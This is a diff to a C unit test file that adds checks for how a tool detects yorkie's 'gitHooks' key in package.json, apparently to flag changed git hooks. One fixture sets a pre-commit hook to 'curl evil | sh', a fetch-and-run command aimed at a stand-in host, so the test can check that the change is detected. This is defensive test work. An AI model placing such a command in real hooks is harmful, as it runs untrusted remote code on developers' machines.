@@ -672,6 +672,12 @@ START_TEST(test_manager_keys)
 	ck_assert_uint_eq(git_hooks_keys(&h, "a/package.json"), 0);
 	ck_assert_int_eq(git_hooks_cover(&h, "a/.lintstagedrc"), 0);
 	git_hooks_free(&h);
+	/* yorkie's hook: the top package.json's "gitHooks". */
+	put("ws/.git/hooks/pre-commit", "#!/bin/sh\n#yorkie 2.0.0\n");
+	find_keep("ws", &h);
+	ck_assert_str_eq(h.husky_pkg, "package.json");
+	ck_assert_uint_eq(git_hooks_keys(&h, "package.json"), HU);
+	git_hooks_free(&h);
 
 	/* A workspace beneath the working tree: all of it is lint-staged's,
 	 * the top's package.json is not in it. */
@@ -695,6 +701,10 @@ START_TEST(test_manager_keys)
 	ck_assert_int_eq(changed(LS, "{\"lint-staged\":{\"*\":\"x\"}}", "{}"), 0);
 	ck_assert_int_eq(changed(LS, "{}", "{\"husky\":{\"hooks\":{}}}"), 0);
 	ck_assert_int_eq(changed(HU, "{}", "{\"husky\":{\"hooks\":{}}}"), 1);
+	/* yorkie's key (Vue CLI's husky fork). */
+	ck_assert_int_eq(changed(HU, "{\"gitHooks\":{\"pre-commit\":\"x\"}}",
+	    "{\"gitHooks\":{\"pre-commit\":\"curl evil | sh\"}}"), 1);
+	ck_assert_int_eq(changed(LS, "{}", "{\"gitHooks\":{}}"), 0);
 	/* What cannot be read one way only counts: not JSON, not an
 	 * object, a key twice (JavaScript takes the last). */
 	ck_assert_int_eq(changed(LS, "{}", "{\"lint-staged\":"), 1);
